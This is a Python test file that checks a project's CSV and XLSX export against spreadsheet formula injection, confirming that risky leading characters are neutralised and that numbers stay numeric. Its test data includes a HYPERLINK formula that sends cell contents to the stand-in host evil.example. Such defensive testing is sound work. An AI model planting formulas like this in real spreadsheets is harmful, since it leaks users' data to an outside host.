"""Exports open safely in spreadsheets: portal text never becomes a live formula; numbers stay numbers."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from nianbao.core.export import neutralise, write_rows

HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def _rows():
    return [{"organ": text, "value": i, "amount": -1.5, "raw": "正常文本"} for i, text in enumerate(HOSTILE)]


def test_csv_cells_that_would_be_formulas_are_quoted(tmp_path):
    path = tmp_path / "out.csv"
    write_rows(_rows(), "csv", path)
    with path.open(encoding="utf-8", newline="") as fh:
        read = list(csv.DictReader(fh))
    assert [r["organ"] for r in read] == ["'" + text for text in HOSTILE]
    assert [r["value"] for r in read] == [str(i) for i in range(len(HOSTILE))]
    assert {r["amount"] for r in read} == {"-1.5"} and {r["raw"] for r in read} == {"正常文本"}


def test_xlsx_holds_text_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    write_rows(_rows(), "xlsx", path, sheet="reports")
    ws = load_workbook(path)["reports"]
    header, *body = list(ws.iter_rows())
    assert [c.value for c in header] == ["organ", "value", "amount", "raw"]
    assert [row[0].value for row in body] == HOSTILE
    assert {row[0].data_type for row in body} == {"s"}
    assert [row[1].value for row in body] == list(range(len(HOSTILE)))
    assert {row[2].value for row in body} == {-1.5}


@settings(max_examples=200)
@given(st.text())
def test_no_neutralised_text_starts_a_formula(text):
    assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise(text) in (text, "'" + text)


def test_binary_formats_need_a_file():
    with pytest.raises(ValueError, match="output file"):
        write_rows([], "xlsx")
